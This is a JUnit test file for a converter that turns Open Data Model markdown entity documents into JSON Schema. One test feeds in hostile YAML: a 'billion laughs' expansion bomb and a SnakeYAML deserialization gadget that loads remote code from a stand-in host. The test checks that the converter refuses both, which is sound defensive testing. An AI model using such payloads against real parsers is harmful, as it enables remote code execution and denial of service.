package io.modelgraph.codec.odm;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.modelgraph.codec.CodecOptions;
import io.modelgraph.codec.SchemaSyntaxException;
import io.modelgraph.ledger.LossEntry;
import io.modelgraph.ledger.LossKind;
import io.modelgraph.ledger.LossinessLedger;
import io.modelgraph.schema.Cardinality;
import io.modelgraph.schema.DataType;
import io.modelgraph.schema.SchemaModel;
import io.modelgraph.schema.Term;
import io.modelgraph.schema.TypeDef;
import java.util.List;
import org.junit.jupiter.api.Test;

class OdmConverterTest {
    static final String WAREHOUSE = """
            # MACH Alliance, Open Data Model Entity: `Warehouse`

            ## Entity purpose

            A place that *stores* stock, with `code` and
            an address.

            More prose that is not the purpose paragraph.

            ## Object: Warehouse

            | Field     | Description              | Practice    |
            | --------- | ------------------------ | ----------- |
            | `id`      | Unique identifier        | MUST        |
            | `kind`    | Kind of warehouse        | SHOULD      |
            | `address` | Where it is              | COULD       |
            | `dock`    | Loading dock             | RECOMMENDED |
            | `manager` | Person in charge         | COULD       |

            ## Object: Dock

            | Field  | Description | Practice |
            |--------|-------------|----------|
            | `size` | Dock size   | MUST     |

            ## YAML Schema Definition

            ### Warehouse Schema

            ```yaml
            Warehouse:
              type: object
              required: [id]
              properties:
                id:
                  type: string
                kind:
                  type: string
                  enum: ["central", "store", "virtual"]
                address:
                  $ref: "../utilities/address.yaml#/Address"
                dock:
                  $ref: "#/components/schemas/Dock"
            ```

            ### Supporting Type Definitions

            ```yaml
            Dock:
              type: object
              properties:
                size:
                  type: integer
                  minimum: 1
                owner:
                  $ref: "#/components/schemas/Warehouse"
            ```

            ## Sample Object: Minimal

            ```json
            {"id": "W1"}
            ```

            ```mermaid
            erDiagram
              Warehouse ||--o{ Dock : has
            ```
            """;

    static final String ADDRESS = """
            # MACH Alliance, Open Data Model Utility Object: `Address`

            ## Entity purpose

            A postal address.

            ## Object: Address

            | Field   | Description | Practice |
            |---------|-------------|----------|
            | `city`  | City        | MUST     |

            ## YAML Schema Definition

            ```yaml
            Address:
              type: object
              properties:
                city:
                  type: string
                geo:
                  $ref: "#/components/schemas/Geo"
            Geo:
              type: object
              properties:
                lat:
                  type: number
            ```
            """;

    private final OdmConverter converter = new OdmConverter();

    @Test
    void oneEntityBecomesOneDocumentWithDefsPracticeAndPurpose() throws Exception {
        LossinessLedger ledger = new LossinessLedger();
        ObjectNode schema = converter.convert(new OdmEntity("warehouse", WAREHOUSE), ledger);

        assertEquals("https://json-schema.org/draft/2020-12/schema", schema.get("$schema").textValue());
        assertEquals("Warehouse", schema.get("title").textValue());
        assertEquals("A place that stores stock, with `code` and an address.", schema.get("description").textValue());
        assertEquals("Entity", schema.get("x-odm-kind").textValue());
        assertEquals("MUST", schema.at("/properties/id/x-odm-practice").textValue());
        assertEquals("RECOMMENDED", schema.at("/properties/dock/x-odm-practice").textValue());
        assertEquals("MUST", schema.at("/$defs/Dock/properties/size/x-odm-practice").textValue(),
                "the second Object table annotates its own schema");
        assertEquals("#/$defs/Dock", schema.at("/properties/dock/$ref").textValue());
        assertEquals("#", schema.at("/$defs/Dock/properties/owner/$ref").textValue(), "the entity itself is the root");
        assertEquals("Kind of warehouse", schema.at("/properties/kind/description").textValue(),
                "the table fills a missing YAML description");
        assertFalse(schema.has("examples"), "sample objects are not read");

        // address points at another document that is not part of this call, manager has no YAML
        assertEquals("#/$defs/Address", schema.at("/properties/address/$ref").textValue());
        assertEquals("object", schema.at("/$defs/Address/type").textValue());
        assertEntry(ledger, LossKind.StructuralDrop, "#/$defs/Address");
        assertEntry(ledger, LossKind.TypeApproximation, "#/properties/manager");
        assertEquals(2, ledger.size(), () -> ledger.entries().toString());
    }

    @Test
    void severalEntitiesMakeABundleAndResolveEachOther() {
        LossinessLedger ledger = new LossinessLedger();
        OdmBundle bundle = converter.convertAll(List.of(new OdmEntity("w", WAREHOUSE),
                new OdmEntity("a", ADDRESS)), ledger);

        assertEquals(2, bundle.converted());
        assertEquals(List.of("warehouse", "address"), keys(bundle.schemas()));
        JsonNode warehouse = bundle.schemas().get("warehouse");
        assertEquals("string", warehouse.at("/$defs/Address/properties/city/type").textValue());
        assertEquals("#/$defs/Geo", warehouse.at("/$defs/Address/properties/geo/$ref").textValue());
        assertEquals("number", warehouse.at("/$defs/Geo/properties/lat/type").textValue());
        assertTrue(ledger.entries().stream().noneMatch(e -> e.explanation().contains("does not resolve")),
                () -> ledger.entries().toString());
    }

    @Test
    void aFailingEntityIsAStructuralDropAndTheRestProceed() {
        LossinessLedger ledger = new LossinessLedger();
        OdmBundle bundle = converter.convertAll(List.of(new OdmEntity("notes", "# Meeting notes\n\nNothing here.\n"),
                new OdmEntity("a", ADDRESS)), ledger);

        assertEquals(1, bundle.converted());
        assertEquals(1, bundle.failed());
        assertEquals(List.of("address"), keys(bundle.schemas()));
        LossEntry drop = ledger.entries().get(0);
        assertEquals(LossKind.StructuralDrop, drop.kind());
        assertEquals("/entities/0", drop.path());
        assertTrue(drop.explanation().contains("'notes'") && drop.explanation().contains("No entity title"),
                drop.explanation());
    }

    @Test
    void kebabCasesTitles() {
        assertEquals("product-type", EntitySchemaBuilder.kebab("Product Type"));
        assertEquals("coupon-instance", EntitySchemaBuilder.kebab("CouponInstance"));
        assertEquals("address", EntitySchemaBuilder.kebab("Address"));
    }

    @Test
    void aDocumentWithoutYamlIsBuiltFromItsTableWithMustAsRequired() throws Exception {
        String legacy = """
                # MACH Alliance, Open Data Model Utility Object: `Media`

                ### Purpose

                Images and files.

                ## Object: Media

                | Field | Description | Practice |
                |-------|-------------|----------|
                | `url` | Location    | MUST     |
                | `alt` | Alt text    | SHOULD   |
                """;
        LossinessLedger ledger = new LossinessLedger();
        ObjectNode schema = converter.convert(new OdmEntity("media", legacy), ledger);
        assertEquals("[\"url\"]", schema.get("required").toString());
        assertEquals("Location", schema.at("/properties/url/description").textValue());
        assertEquals("SHOULD", schema.at("/properties/alt/x-odm-practice").textValue());
        assertEquals("Images and files.", schema.get("description").textValue());
        assertEntry(ledger, LossKind.TypeApproximation, "#");
    }

    @Test
    void theSeedShapeWithAComponentsWrapperIsReadToo() throws Exception {
        String seed = """
                # Entity: Tag

                ## Entity purpose

                A label.

                ## Object: Tag

                | Field | Description | Practice |
                |---|---|---|
                | name | The label | MUST |

                ## YAML Schema Definition

                ```yaml
                components:
                  schemas:
                    Tag:
                      type: object
                      required: [name]
                      properties:
                        name: {type: string, nullable: true, example: "red"}
                ```
                """;
        ObjectNode schema = converter.convert(new OdmEntity("tag", seed), new LossinessLedger());
        assertEquals("[\"string\",\"null\"]", schema.at("/properties/name/type").toString());
        assertEquals("red", schema.at("/properties/name/examples/0").textValue());
        assertEquals("MUST", schema.at("/properties/name/x-odm-practice").textValue());
    }

    @Test
    void hostileOrBrokenYamlIsRefusedWithItsLine() {
        String laughs = "a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n";
        String doc = "# Entity: Bomb\n\n## Object: Bomb\n\n| Field | Description | Practice |\n|---|---|---|\n"
                + "| a | a | MUST |\n\n## YAML Schema Definition\n\n```yaml\n" + laughs + "```\n";
        assertThrows(SchemaSyntaxException.class, () -> converter.convert(new OdmEntity("bomb", doc),
                new LossinessLedger()));

        String tagged = doc.replace(laughs, "Bomb: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");
        assertThrows(SchemaSyntaxException.class, () -> converter.convert(new OdmEntity("tagged", tagged),
                new LossinessLedger()));

        String broken = doc.replace(laughs, "Bomb:\n  type: object\n   properties: [\n");
        SchemaSyntaxException e = assertThrows(SchemaSyntaxException.class,
                () -> converter.convert(new OdmEntity("broken", broken), new LossinessLedger()));
        assertTrue(e.path().startsWith("line 1"), e.path());
        // SnakeYAML's own marks (a quoted line and a caret) are not part of the message: the path says where
        assertFalse(e.getMessage().contains("in 'reader'"), e.getMessage());
        assertFalse(e.getMessage().contains("\n"), e.getMessage());
        assertTrue(e.getMessage().startsWith("Malformed YAML schema block: "), e.getMessage());
    }

    @Test
    void theOdmCodecDecodesToTypesTaxonomiesAndOdmProvenance() throws Exception {
        LossinessLedger ledger = new LossinessLedger();
        SchemaModel model = new OdmCodec().decode(WAREHOUSE, CodecOptions.NONE, ledger);

        assertEquals("odm", model.provenance().format());
        assertEquals(List.of("Warehouse", "Dock", "Address"), model.types().stream().map(TypeDef::name).toList());
        assertTrue(model.types().stream().allMatch(t -> t.provenance().format().equals("odm")));
        TypeDef warehouse = model.type("Warehouse").orElseThrow();
        assertEquals(Cardinality.REQUIRED, warehouse.element("id").orElseThrow().cardinality());
        assertEquals(new DataType.TaxonomyRef("WarehouseKind"), warehouse.element("kind").orElseThrow().type());
        assertEquals(List.of(Term.of("central"), Term.of("store"), Term.of("virtual")),
                model.taxonomy("WarehouseKind").orElseThrow().terms());
        assertEquals("odm", model.taxonomy("WarehouseKind").orElseThrow().provenance().format());
        assertEquals("RECOMMENDED", warehouse.element("dock").orElseThrow().annotations().get("x-odm-practice"));
        assertEquals(new DataType.TypeRef("Warehouse"), model.type("Dock").orElseThrow().element("owner")
                .orElseThrow().type());
        assertEntry(ledger, LossKind.StructuralDrop, "#/$defs/Address");
    }

    @Test
    void emptyInputIsRefused() {
        assertThrows(SchemaSyntaxException.class, () -> new OdmCodec().decode("  \n", CodecOptions.NONE,
                new LossinessLedger()));
    }

    private static List<String> keys(JsonNode node) {
        List<String> out = new java.util.ArrayList<>();
        node.fieldNames().forEachRemaining(out::add);
        return out;
    }

    private static void assertEntry(LossinessLedger ledger, LossKind kind, String path) {
        assertTrue(ledger.entries().stream().anyMatch(e -> e.kind() == kind && e.path().equals(path)),
                () -> "expected " + kind + " at " + path + " in " + ledger.entries());
    }
}
